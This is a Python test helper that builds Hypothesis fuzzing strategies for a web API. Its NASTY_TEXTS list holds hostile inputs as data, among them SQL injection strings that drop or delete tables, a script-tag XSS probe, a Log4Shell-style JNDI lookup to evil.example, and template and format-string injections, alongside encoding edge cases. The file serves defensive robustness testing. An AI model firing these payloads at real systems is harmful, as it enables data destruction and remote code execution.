"""Hostile inputs: what a broken client, a curious user or an attacker might send."""

from __future__ import annotations

from typing import Any

from hypothesis import strategies as st

NASTY_TEXTS = [
    "'; DROP TABLE responses; --",
    "1 OR 1=1",
    "Robert'); DELETE FROM people WHERE ('1'='1",
    '" OR ""="',
    "<script>alert(1)</script>",
    "**fet** [Klicka här](https://evil.example) ![x](https://evil.example/x.png)",
    "<at>Lägesbot</at> status",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} {0} {name} %s%s%n",
    "\x00",
    "nul\x00inside",
    "\ud800",  # a lone surrogate: valid in JSON escapes, not encodable as UTF-8
    "a\udfffb",
    "\u202emirrored",
    "ÅÄÖ åäö é ß 漢字 🙂💥",
    "\r\n\t",
    " ",
    "",
    "0" * 40,
    "-1",
    "1e309",
    "NaN",
    "9" * 19,
    "²",  # str.isdigit() says yes, int() says no
    "١٢",  # Arabic-Indic digits
    "1\u00a0200,5",
]

nasty_text = st.one_of(
    st.sampled_from(NASTY_TEXTS),
    st.text(max_size=300),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=50),
    # Long, yet even JSON-escaped (6 bytes a character) twice under the 1 MB body limit.
    st.builds(
        lambda part, times: part * times,
        st.text(min_size=1, max_size=4),
        st.integers(1000, 10000),
    ),
)

big_ints = st.one_of(
    st.integers(-(2**70), 2**70),
    st.sampled_from([2**31 - 1, 2**31, 2**32, 2**53 + 1, 2**63 - 1, 2**63, 10**18 - 1, -1, 0]),
)

scalars = st.one_of(
    st.none(),
    st.booleans(),
    big_ints,
    st.floats(allow_nan=False, allow_infinity=False),
    nasty_text,
)

json_values = st.recursive(
    scalars,
    lambda children: st.one_of(
        st.lists(children, max_size=4),
        st.dictionaries(st.text(max_size=12), children, max_size=4),
    ),
    max_leaves=12,
)


def ids(real: list[int]) -> st.SearchStrategy[Any]:
    """An id as a client might send it: a real one, someone else's, absurd, or not an id."""
    return st.one_of(
        st.sampled_from(real),
        st.sampled_from(real).map(str),
        big_ints,
        big_ints.map(str),
        nasty_text,
        st.none(),
        st.lists(st.integers(), max_size=2),
    )
